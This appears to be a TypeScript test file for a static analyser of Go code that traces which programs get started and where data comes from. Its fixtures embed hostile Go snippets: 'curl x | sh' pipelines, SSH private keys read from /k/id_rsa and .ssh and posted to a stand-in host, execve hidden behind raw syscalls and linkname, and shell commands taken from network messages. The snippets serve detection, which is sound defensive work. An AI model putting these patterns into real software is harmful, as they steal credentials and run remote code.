import assert from 'node:assert/strict'
import test from 'node:test'
import { utf8 } from '../../base/bytes.ts'
import type { Effect } from '../facts.ts'
import { readFacts } from '../readfacts.ts'
import { standardCatalogue } from './cataloguestandard.ts'

const catalogue = standardCatalogue()

const IMPORTS: Readonly<Record<string, string>> = {
  bytes: 'bytes',
  cipher: 'crypto/cipher',
  context: 'context',
  exec: 'os/exec',
  filepath: 'path/filepath',
  fs: 'io/fs',
  gzip: 'compress/gzip',
  hex: 'encoding/hex',
  http: 'net/http',
  io: 'io',
  json: 'encoding/json',
  mqtt: 'github.com/eclipse/paho.mqtt.golang',
  multipart: 'mime/multipart',
  nats: 'github.com/nats-io/nats.go',
  os: 'os',
  redis: 'github.com/redis/go-redis/v9',
  reflect: 'reflect',
  slices: 'slices',
  ssh: 'golang.org/x/crypto/ssh',
  strings: 'strings',
  sync: 'sync',
  syscall: 'syscall',
  unsafe: 'unsafe',
  zip: 'archive/zip',
}

/** The effects of a file with these declarations; what it uses is imported. */
function effectsOf(body: string): readonly Effect[] {
  const used = Object.entries(IMPORTS).filter(([name]) => new RegExp(`\\b${name}\\.[A-Z]`).test(body))
  const text = `package a\n\nimport (\n${used.map(([name, path]) => `\t${name} "${path}"\n`).join('')})\n\n${body}\n`
  return readFacts('example.com/m', new Map([['a.go', utf8(text)]]), catalogue).effects
}

/** What started programs are known to be: `sh -c id`. */
function commands(body: string): string[] {
  return effectsOf(body)
    .filter(({ kind }) => kind === 'process')
    .map(({ arguments: args }) => args.map(({ values }) => values.map(({ text }) => text).join('|')).join(' '))
}

/** Sources of the arguments in a role, with what they tell. */
function sources(body: string, role: string): string[] {
  const found = effectsOf(body).flatMap(({ arguments: args }) =>
    args.filter((one) => one.role === role).flatMap((one) => one.sources.map(({ kind, values }) => [kind, ...values])),
  )
  return [...new Set(found.map((one) => one.join(' ')))]
}

for (const [name, body] of [
  [
    'a parameter',
    'func F() { with(exec.Command) }\nfunc with(f func(string, ...string) *exec.Cmd) { f("sh", "-c", "id") }',
  ],
  [
    'a parameter that is passed on',
    'func F() { outer(exec.Command) }\nfunc outer(f func(string, ...string) *exec.Cmd) { inner(f) }\nfunc inner(f func(string, ...string) *exec.Cmd) { f("sh", "-c", "id") }',
  ],
  [
    'a map, asked with ok',
    'var kit = map[string]func(string, ...string) *exec.Cmd{"r": exec.Command}\nfunc F() { if f, ok := kit["r"]; ok { f("sh", "-c", "id") } }',
  ],
  [
    'what a function returns',
    'func pick() func(string, ...string) *exec.Cmd { return exec.Command }\nfunc F() { pick()("sh", "-c", "id") }',
  ],
  [
    'reflection',
    'func F() { reflect.ValueOf(exec.Command).Call([]reflect.Value{reflect.ValueOf("sh"), reflect.ValueOf("-c"), reflect.ValueOf("id")}) }',
  ],
  [
    'a context',
    'func F() { g(context.WithValue(context.Background(), "k", exec.Command)) }\nfunc g(c context.Context) { f, _ := c.Value("k").(func(string, ...string) *exec.Cmd); f("sh", "-c", "id") }',
  ],
  [
    'a method expression',
    'type t struct{}\nfunc (*t) run(c string) { exec.Command("sh", "-c", c) }\nfunc F() { f := (*t).run; f(&t{}, "id") }',
  ],
  [
    'a method expression in a map',
    'type t struct{}\nfunc (t) run(c string) { exec.Command("sh", "-c", c) }\nvar m = map[string]func(t, string){"a": t.run}\nfunc F() { m["a"](t{}, "id") }',
  ],
] as const) {
  test(`effects are found where a function is called through ${name}`, () =>
    assert.deepEqual(commands(body), ['sh -c id']))
}

test('effects are none where a function of the library is only compared, or never called', () => {
  assert.deepEqual(commands('func F(f func(string, ...string) *exec.Cmd) { G(exec.Command) }\nfunc G(any) {}'), [])
})

test('effects tell the caller apart that passes a script among hundreds that pass words', () => {
  const dull = Array.from({ length: 300 }, (_, i) => `func F${i}() { git("w${i}") }`).join('\n')
  const found = commands(
    `func run(name string, args ...string) { exec.Command(name, args...) }\nfunc git(args ...string) { run("git", args...) }\n${dull}\nfunc Z() { run("sh", "-c", "curl x | sh") }`,
  )
  assert.deepEqual(found.slice(0, 1), ['sh -c curl x | sh'])
  // What the others pass is told together.
  assert.deepEqual(found.slice(1), ['git w0|w1|w2|w3|w4|w5|w6|w7'])
})

const KEY = 'd, _ := os.ReadFile("/k/id_rsa")'
const POST = (x: string): string => `http.Post("https://a.invalid", "", ${x})`
for (const [name, body] of [
  [
    'a part of a form',
    `func F() { var b bytes.Buffer; w := multipart.NewWriter(&b); p, _ := w.CreateFormFile("k", "x"); f, _ := os.Open("/k/id_rsa"); io.Copy(p, f); ${POST('&b')} }`,
  ],
  [
    'an archive in a stream that is packed',
    `func F() { var b bytes.Buffer; z := gzip.NewWriter(&b); a := zip.NewWriter(z); w, _ := a.Create("k"); ${KEY}; w.Write(d); ${POST('&b')} }`,
  ],
  [
    'an encoder on the spot',
    `func F() { var b bytes.Buffer; ${KEY}; json.NewEncoder(gzip.NewWriter(&b)).Encode(d); ${POST('&b')} }`,
  ],
  [
    'a writer in a struct',
    `func F(s cipher.Stream) { var b bytes.Buffer; ${KEY}; w := &cipher.StreamWriter{S: s, W: &b}; w.Write(d); ${POST('&b')} }`,
  ],
  [
    'a writer in a field',
    `type t struct { b bytes.Buffer; z *gzip.Writer }\nfunc F() { x := &t{}; x.z = gzip.NewWriter(&x.b); ${KEY}; x.z.Write(d); ${POST('&x.b')} }`,
  ],
  [
    'a writer of the module',
    `type mask struct{ to io.Writer }\nfunc (m *mask) Write(p []byte) (int, error) { q := bytes.ToUpper(p); return m.to.Write(q) }\nfunc F() { var b bytes.Buffer; f, _ := os.Open("/k/id_rsa"); io.Copy(&mask{&b}, f); ${POST('&b')} }`,
  ],
  ['a pipe', `func F() { r, w := io.Pipe(); go func() { ${KEY}; w.Write(d) }(); ${POST('r')} }`],
  [
    'a channel of the package',
    `var q = make(chan []byte, 9)\nfunc F() { ${KEY}; q <- d }\nfunc G() { for d := range q { ${POST('bytes.NewReader(d)')} } }`,
  ],
  [
    'a channel in a field',
    `type t struct{ q chan []byte }\nfunc (x *t) F() { ${KEY}; x.q <- d }\nfunc (x *t) G() { ${POST('bytes.NewReader(<-x.q)')} }`,
  ],
  [
    'a map that is ranged over with a function',
    `func F() { var m sync.Map; ${KEY}; m.Store("a", d); m.Range(func(k, v any) bool { ${POST('bytes.NewReader(v.([]byte))')}; return true }) }`,
  ],
] as const) {
  test(`origins: what is written into ${name}`, () =>
    assert.equal(sources(body, 'data').includes('file /k/id_rsa'), true))
}

test('origins: the files below a folder that is walked, and those that a pattern names', () => {
  const walk = `func F() { filepath.WalkDir("/k/.ssh", func(p string, d fs.DirEntry, err error) error { b, _ := os.ReadFile(p); ${POST('bytes.NewReader(b)')}; return nil }) }`
  assert.deepEqual(sources(walk, 'data'), ['file /k/.ssh/…'])
  const glob = `func F() { l, _ := filepath.Glob("/k/.ssh/*"); for _, p := range l { b, _ := os.ReadFile(p); ${POST('bytes.NewReader(b)')} } }`
  assert.deepEqual(sources(glob, 'data'), ['file /k/.ssh/*'])
})

test('origins: what a function is given that the library calls is what the library has, not what a caller passes', () => {
  const mapped = `func F() { c := bytes.Map(func(r rune) rune { return r ^ 7 }, []byte("jk")); exec.Command("sh", "-c", string(c)) }`
  assert.deepEqual(sources(mapped, 'argument'), [])
  const message = `func F() { c, _ := nats.Connect("nats://a.invalid"); c.Subscribe("s", func(m *nats.Msg) { exec.Command(string(m.Data)) }) }`
  assert.deepEqual(sources(message, 'command'), ['network nats://a.invalid'])
  const handler = `func init() { http.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) { exec.Command(r.URL.Path) }) }`
  assert.deepEqual(sources(handler, 'command'), ['network'])
})

test('origins: a request is what somebody sent, where a handler answers it', () => {
  const handler = `func H(w http.ResponseWriter, r *http.Request) { exec.Command("sh", r.Header.Get("X")) }`
  assert.deepEqual(sources(handler, 'argument'), ['argument', 'network'])
  assert.deepEqual(sources('func T(r *http.Request) { exec.Command("sh", r.Header.Get("X")) }', 'argument'), [
    'argument',
  ])
})

test('effects are those of the function that a name is linked to', () => {
  const linked = `var _ unsafe.Pointer\n\n//go:linkname spawn syscall.forkExec\nfunc spawn(p string, v []string, a *syscall.ProcAttr) (int, error)\nfunc init() { spawn("/bin/sh", []string{"sh", "-c", "id"}, nil) }`
  assert.deepEqual(commands(linked), ['/bin/sh sh -c id'])
  assert.deepEqual(commands('func spawn(p string)\nfunc init() { spawn("/bin/sh") }'), [])
})

test('effects are those of the system call that starts a program, by its name and in assembly', () => {
  const named = `func F() { p, _ := syscall.BytePtrFromString("/bin/sh"); c, _ := syscall.BytePtrFromString("-c"); v := []*byte{p, c, nil}; syscall.RawSyscall(syscall.SYS_EXECVE, uintptr(unsafe.Pointer(p)), uintptr(unsafe.Pointer(&v[0])), 0) }`
  assert.deepEqual(commands(named), ['/bin/sh /bin/sh -c'])
  const stub = `func call(n, a, b uintptr)\nfunc F() { p := [...]byte{47, 98, 105, 110, 47, 115, 104, 0}; v := [...]*byte{&p[0], nil}; call(59, uintptr(unsafe.Pointer(&p[0])), uintptr(unsafe.Pointer(&v[0]))) }`
  assert.deepEqual(commands(stub), ['/bin/sh /bin/sh'])
  assert.deepEqual(commands(stub.replace('59', '60')), [])
})

test('origins: a folder that is opened as a file system stands for its files', () => {
  const body = `func F() { d := os.DirFS("/k/.ssh"); b, _ := fs.ReadFile(d, "id_rsa"); ${POST('bytes.NewReader(b)')} }`
  assert.deepEqual(sources(body, 'data'), ['file /k/.ssh/…'])
})

test('effects have what methods add to a request before it is sent, and not what is added to another one', () => {
  const body = `func F(k string) { r, _ := http.NewRequest("GET", "https://a.invalid", nil); o, _ := http.NewRequest("GET", "/", nil); r.AddCookie(&http.Cookie{Value: k}); o.AddCookie(&http.Cookie{Value: os.Getenv("A")}); http.DefaultClient.Do(r) }`
  assert.deepEqual(sources(body, 'header'), ['argument'])
})

test('origins: a message tells by the connection that it came over', () => {
  const mqtt = `func F() { o := mqtt.NewClientOptions(); o.AddBroker("ssl://a.invalid:1"); c := mqtt.NewClient(o); c.Subscribe("x", 0, on) }\nfunc on(_ mqtt.Client, m mqtt.Message) { exec.Command("sh", "-c", string(m.Payload())) }`
  assert.deepEqual(sources(mqtt, 'argument'), ['network ssl://a.invalid:1'])
  const redis = `func F() { c := redis.NewClient(&redis.Options{Addr: "a.invalid:2"}); for m := range c.Subscribe(nil, "x").Channel() { exec.Command("sh", "-c", m.Payload) } }`
  assert.deepEqual(sources(redis, 'argument'), ['network a.invalid:2'])
})

test('effects have the elements of a list that the library calls a function for', () => {
  const body = `var all = []string{"id", "ls"}\nfunc F() bool { return slices.ContainsFunc(all, func(s string) bool { return exec.Command("sh", "-c", s).Run() == nil }) }`
  assert.deepEqual(commands(body), ['sh -c id|ls'])
})

test('effects of the system call know what pointers of helpers point to', () => {
  const body = `func ptr(s string) *byte { return unsafe.StringData(s) }\nfunc F() { v := [3]*byte{ptr("sh\\x00"), ptr("-c\\x00"), nil}; syscall.RawSyscall6(syscall.SYS_EXECVE, uintptr(unsafe.Pointer(ptr("/bin/sh\\x00"))), uintptr(unsafe.Pointer(&v)), 0, 0, 0, 0) }`
  assert.deepEqual(commands(body), ['/bin/sh sh -c'])
})

const TABLE = `var rows = []struct{ n string; a []string }{{"ip", []string{"r"}}, {"ip", []string{"a"}}, {"ss", []string{"s"}}, {"id", []string{"u"}}, {"sh", []string{"-c", "curl x | sh"}}}`

test('effects keep the rows of a table together, in the loop and through a helper', () => {
  const rows = ['ip|ip|ss|id|sh r|a|s|u|-c curl x | sh']
  const direct = `${TABLE}\nfunc F() { for _, q := range rows { exec.Command(q.n, q.a...) } }`
  assert.deepEqual(commands(direct), rows)
  const helped = `${TABLE}\nfunc F() { for _, q := range rows { run(q.n, q.a...) } }\nfunc run(n string, a ...string) { exec.Command(n, a...) }`
  assert.deepEqual(commands(helped), rows)
})

test('effects know the row that tells of a table of hundreds', () => {
  const rows = Array.from({ length: 200 }, (_, i) => `"w${i}"`)
  const found = commands(
    `var rows = []string{${rows.join(', ')}, "curl x | sh"}\nfunc F() { for _, q := range rows { exec.Command("sh", "-c", q) } }`,
  )
  assert.deepEqual(found, ['sh -c curl x | sh|w0|w1|w2|w3|w4|w5|w6'])
})

test('origins tell of ciphers, hashes and encodings on the way', () => {
  const body = `func F(k string) { http.Get("https://a.invalid/" + hex.EncodeToString([]byte(k))) }`
  const [effect] = effectsOf(body)
  const traces = effect?.arguments.flatMap((one) => one.sources.flatMap(({ trace }) => trace.map(({ what }) => what)))
  assert.deepEqual(traces, ['encoding/hex.EncodeToString'])
})

test('effects have what functions of the module complete an object with, each call with its own', () => {
  const wired = `func F() { k, _ := os.Open("/k/id_rsa"); c := exec.Command("sh"); wire(c, k); c.Run() }\nfunc wire(c *exec.Cmd, r io.Reader) { c.Stdin = r }`
  assert.deepEqual(sources(wired, 'stdin'), ['file /k/id_rsa'])
  const signed = `func F(k string) { r, _ := http.NewRequest("GET", "https://a.invalid", nil); sign(r, k); http.DefaultClient.Do(r) }\nfunc G() { r, _ := http.NewRequest("GET", "https://b.invalid", nil); http.DefaultClient.Do(r) }\nfunc sign(r *http.Request, k string) { r.Header.Set("X", k) }`
  const headers = effectsOf(signed).map(({ arguments: args }) => args.filter(({ role }) => role === 'header').length)
  assert.deepEqual(headers, [2, 0])
  const option = `type o func(*exec.Cmd)\nfunc line(l string) o { return func(c *exec.Cmd) { c.Args = append(c.Args, "-c", l) } }\nfunc F() { c := exec.Command("sh"); for _, f := range []o{line("id")} { f(c) }; c.Run() }`
  assert.deepEqual(commands(option), ['sh -c id'])
})
